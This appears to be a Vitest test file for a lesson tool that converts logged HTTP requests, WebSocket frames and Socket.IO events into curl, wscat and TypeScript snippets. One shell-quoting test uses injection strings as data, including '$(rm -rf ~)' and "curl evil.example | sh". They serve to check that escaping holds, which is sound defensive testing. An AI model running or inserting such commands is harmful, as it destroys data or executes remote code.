import { expect, test } from "vitest";
import type { Entry } from "../../protocol/log.ts";
import { copiesOf } from "./copy.ts";
import { lineOf, made, madePage } from "./log/made.fixture.ts";

const place = {
  origin: "http://127.0.0.1:3000",
  href: "http://127.0.0.1:3000/lessons/03/",
  lab: { ws: "/labs/x/ws", socketio: "/labs/x/socket.io/" },
};

function copies(entry: Entry, more: { carries?: string } = {}): Record<string, string> {
  const line = lineOf(entry);
  line.row = { seq: 0, lines: [line, ...(more.carries ? [lineOf(made(9, more.carries))] : [])] };
  return Object.fromEntries(copiesOf(line, place).map(({ name, text }) => [name, text]));
}

const request = (data: object) =>
  made(3, "http request", {
    data: { method: "GET", target: "/labs/x/ws?client=A", version: "1.1", headers: [], length: 0, ...data },
  });
const text = (said: string, more = {}) =>
  made(5, "websocket frame", {
    data: { fin: true, rsv: 0, opcode: 1, name: "text", masked: true, key: null, length: said.length, text: said },
    ...more,
  });

test("a handshake becomes curl with the same head, wscat, and TypeScript", () => {
  const headers = [
    ["Host", "127.0.0.1:3000"],
    ["Connection", "Upgrade"],
    ["Upgrade", "websocket"],
    ["Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="],
    ["Cookie", "•••"],
  ];
  expect(copies(request({ headers }))).toMatchObject({
    curl: [
      "curl -i -N --http1.1",
      "-H 'Connection: Upgrade'",
      "-H 'Upgrade: websocket'",
      "-H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='",
      "'http://127.0.0.1:3000/labs/x/ws?client=A'",
    ].join(" \\\n  "),
    wscat: "wscat -c 'ws://127.0.0.1:3000/labs/x/ws?client=A'",
    TypeScript:
      'const ws = new WebSocket("ws://127.0.0.1:3000/labs/x/ws?client=A");\nws.onmessage = ({ data }) => console.log(data);',
    link: "http://127.0.0.1:3000/lessons/03/#n=3",
  });
});

test("another request is curl only", () => {
  const entry = request({ method: "POST", target: "/labs/x/speak", headers: [["Content-Length", "0"]] });
  expect(copies(entry)).toEqual({
    curl: "curl -i \\\n  -X POST \\\n  'http://127.0.0.1:3000/labs/x/speak'",
    JSON: expect.stringContaining('"n":3'),
    link: "http://127.0.0.1:3000/lessons/03/#n=3",
  });
});

test("a message of a raw WebSocket is sent again", () => {
  expect(copies(text("hi"))).toMatchObject({
    wscat: "wscat -c 'ws://127.0.0.1:3000/labs/x/ws' -w 2 -x 'hi'",
    TypeScript: [
      'const ws = new WebSocket("ws://127.0.0.1:3000/labs/x/ws");',
      'ws.onopen = () => ws.send("hi");',
      "ws.onmessage = ({ data }) => console.log(data);",
    ].join("\n"),
  });
});

test("an event of Socket.IO is emitted again, and waited for if it was", () => {
  const event = (data: object) =>
    made(7, "socket.io event", {
      bytes: new TextEncoder().encode('27["add",2,3]'),
      data: { nsp: "/", name: "add", args: [2, 3], ...data },
    });
  expect(copies(event({ id: 7 }))).toMatchObject({
    wscat:
      "wscat -c 'ws://127.0.0.1:3000/labs/x/socket.io/?EIO=4&transport=websocket'\n# then type, first the packet that connects:\n40\n427[\"add\",2,3]",
    TypeScript: [
      'import { io } from "socket.io-client";',
      "",
      'const socket = io("http://127.0.0.1:3000", { path: "/labs/x/socket.io/" });',
      "socket.onAny((name, ...args) => console.log(name, ...args));",
      'console.log(await socket.timeout(5_000).emitWithAck("add", 2, 3));',
    ].join("\n"),
  });
  expect(copies(event({ nsp: "/admin" }))["TypeScript"]).toMatch(
    /io\("http:\/\/127\.0\.0\.1:3000\/admin".*socket\.emit\("add", 2, 3\);$/s,
  );
});

test.each<[string, string]>([
  ["it's", `'it'\\''s'`],
  ['$(rm -rf ~) `id` \\ "', "'$(rm -rf ~) `id` \\ \"'"],
  ["two\nlines; exit", "'two\nlines; exit'"],
  ["'; curl evil.example | sh; '", `''\\''; curl evil.example | sh; '\\'''`],
])("no text gets out of its quotes in a shell: %j", (said, quoted) => {
  expect(copies(text(said))["wscat"]).toBe(`wscat -c 'ws://127.0.0.1:3000/labs/x/ws' -w 2 -x ${quoted}`);
});

test.each<[string, Entry, object]>([
  ["a frame that carries Engine.IO", text("2probe"), { carries: "engine.io ping" }],
  ["a message of the server", text("hi", { from: "server" }), {}],
  ["a text that was cut in the log", text("hi", { data: { ...text("hi").data, length: 9_000 } }), {}],
  ["a note of the program", made(8, "app note", { data: { text: "hello" } }), {}],
])("%s is nothing to run", (_, entry, more) => {
  expect(Object.keys(copies(entry, more))).toEqual(["JSON", "link"]);
});

test("one of the page's own is its JSON and its link", () => {
  const entry = madePage(3);
  expect(copiesOf(lineOf(entry), place)).toEqual([
    { name: "JSON", text: JSON.stringify(entry) },
    { name: "link", text: "http://127.0.0.1:3000/lessons/03/#n=p3" },
  ]);
});
